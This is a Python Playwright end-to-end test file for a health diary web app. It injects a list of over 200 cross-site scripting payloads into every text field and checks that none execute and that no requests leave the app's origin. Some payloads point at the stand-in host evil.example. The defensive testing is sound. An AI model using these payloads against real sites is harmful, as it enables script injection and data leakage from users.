"""Whatever is written into the diary is words: none of it runs. And nothing is asked of anybody else."""

from collections.abc import Callable
from datetime import date, timedelta
from typing import Any, Final
from urllib.parse import urlsplit
from uuid import uuid4

import pytest
from playwright.async_api import Page, expect

from onset.diary.typed import RecordFields
from tests.e2e.devices import PASSWORD, Device, expect_saved, go
from tests.e2e.history import put_rows, row_of

pytestmark = pytest.mark.browser

MakeDevice = Callable[[str], Device]

_ACTS: Final = ("window.ran=1", "top.ran=1", "fetch('/api/me?ran')", "document.title='ran'")
_FORMS: Final = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    "javascript:{}",
    '"><script>{}</script>',
    "'-{}-'",
    "${{{}}}",
    "{{{{{}}}}}",
    '<a href="javascript:{}">x</a>',
    '<math><mi xlink:href="javascript:{}">x</mi></math>',
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "<style>@import 'javascript:{}';</style>",
    "<details open ontoggle={}>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    '<object data="javascript:{}"></object>',
    '<form action="javascript:{}"><button>x</button></form>',
    '<base href="https://evil.example/"><script src=x>{}</script>',
    '<link rel=stylesheet href="https://evil.example/{}">',
    '<meta http-equiv=refresh content="0;javascript:{}">',
    '<img src="https://evil.example/?{}">',
    "\u202e<script>{}</script>",
    "<scr\u0000ipt>{}</script>".replace("\u0000", ""),
    "%3Cscript%3E{}%3C/script%3E",
    "&lt;script&gt;{}&lt;/script&gt;",
    "<ScRiPt>{}</sCrIpT>",
    "<script\n>{}</script\n>",
    "<<script>{}//<</script>",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "<template><script>{}</script></template>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<marquee onstart={}>",
    "<select autofocus onfocus={}>",
    "<keygen autofocus onfocus={}>",
    '<isindex action="javascript:{}">',
    '<embed src="javascript:{}">',
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    '<div style="background:url(javascript:{})">',
    "<img src=`x` onerror={}>",
    "<xss onpointerenter={} style=display:block>x</xss>",
    '<a href="#" onclick={}>x</a>',
    '<portal src="javascript:{}">',
    "<frameset onload={}>",
    "<image src=x onerror={}>",
    "`;{};`",
    "<dialog open onclose={}>",
    "<audio src=x onerror={}>",
)
PAYLOADS: Final = [form.format(act) for form in _FORMS for act in _ACTS]
_FIELDS: Final = {
    "attack": ("note",),
    "sign": ("note",),
    "checkin": ("note",),
    "medication": ("name", "strength", "prescriber", "note"),
    "treatment": ("name", "goal", "provider", "note"),
    "measurement": ("name", "unit", "note"),
    "visit": ("with", "questions", "examination", "advice", "note"),
    "profile": ("plan", "allergy", "note"),
    "item": ("label", "note"),
}
PLACES: Final = (
    "",
    "diary",
    "search",
    "things/medication",
    "things/treatment",
    "things/measurement",
    "things/visit",
    "lists",
    "history",
    "me",
)
RAN: Final = "window.ran === 1 || top.ran === 1 || document.title === 'ran'"


def test_there_are_two_hundred_of_them() -> None:
    assert len(set(PAYLOADS)) >= 200


async def look_around(page: Page) -> None:
    """Show every place where somebody's words stand."""
    for place in PLACES:
        await page.evaluate("(place) => { location.hash = place; }", place)
        await page.wait_for_timeout(250)
        assert await page.evaluate(RAN) is False, place


async def test_two_hundred_scripts_in_every_text_are_words(device: MakeDevice) -> None:
    phone = device("phone")
    page = await phone.open()
    rows: list[Any] = []
    at = 1_796_000_000_000
    for n, payload in enumerate(PAYLOADS):
        for kind, names in _FIELDS.items():
            fields: dict[str, Any] = dict.fromkeys(names, payload) | _needed(kind, n)
            stamp = f"{at - n:012x}-0000-00000000000000aa"
            record = RecordFields(str(uuid4()), kind, fields, dict.fromkeys(fields, stamp))
            rows.append(row_of(record))
    await put_rows(page, rows)
    await page.reload()
    await expect(page.locator(".status")).not_to_be_empty()
    await look_around(page)
    await page.evaluate("location.hash = 'search'")
    await page.locator("input[type=search]").fill("script")
    await page.wait_for_timeout(500)
    assert await page.evaluate(RAN) is False
    assert [url for url in phone.requests if "ran" in urlsplit(url).query] == []
    assert {urlsplit(url).netloc for url in phone.requests} == {urlsplit(phone.server.origin).netloc}
    assert phone.complaints == []


def _needed(kind: str, n: int) -> dict[str, str]:
    day = date(2026, 11, 24) - timedelta(days=n)
    at = f"{day}T08:00:00.000Z"
    zoned = {"zone": "Europe/Berlin"}
    needed = {
        "attack": zoned | {"startedAt": at, "endedAt": f"{day}T12:00:00.000Z"},
        "sign": zoned | {"at": at, "sign": "yawning"},
        "checkin": zoned | {"date": str(day), "done": f"{day}T20:00:00.000Z"},
        "measurement": zoned | {"at": at},
        "visit": zoned | {"at": at},
        "item": {"list": "trigger"},
    }
    return needed.get(kind, {})


async def test_control_a_page_that_runs_what_is_written_is_seen(device: MakeDevice) -> None:
    page = await device("phone").open()
    await page.evaluate("Object.assign(window, { ran: 1 })")
    assert await page.evaluate(RAN) is True


async def test_with_an_account_too_nothing_is_asked_of_anybody_else(device: MakeDevice) -> None:
    phone = device("phone")
    page = await phone.open()
    await go(page, "Me")
    await page.locator("#name").fill("<img src=https://evil.example/x>")
    await page.locator("#password").fill(PASSWORD)
    await page.get_by_role("button", name="Create account").click()
    await page.locator(".code").wait_for()
    await expect_saved(page)
    await page.goto(f"{phone.server.origin}/privacy")
    await expect(page.get_by_role("heading", level=1)).to_be_visible()
    ours = urlsplit(phone.server.origin).netloc
    assert {urlsplit(url).netloc for url in phone.requests} == {ours}
    # The control: one address of a font, and the same look at the requests sees it; the policy stops it besides.
    heard: list[str] = []
    page.on("request", lambda request: heard.append(request.url))
    page.on("console", lambda said: heard.append(said.text))
    await page.evaluate(
        """() => {
            const sheet = Object.assign(document.createElement('link'),
                { rel: 'stylesheet', href: 'https://fonts.example/one.css' });
            document.head.append(sheet);
        }"""
    )
    await page.wait_for_timeout(500)
    assert any("fonts.example" in said for said in heard)
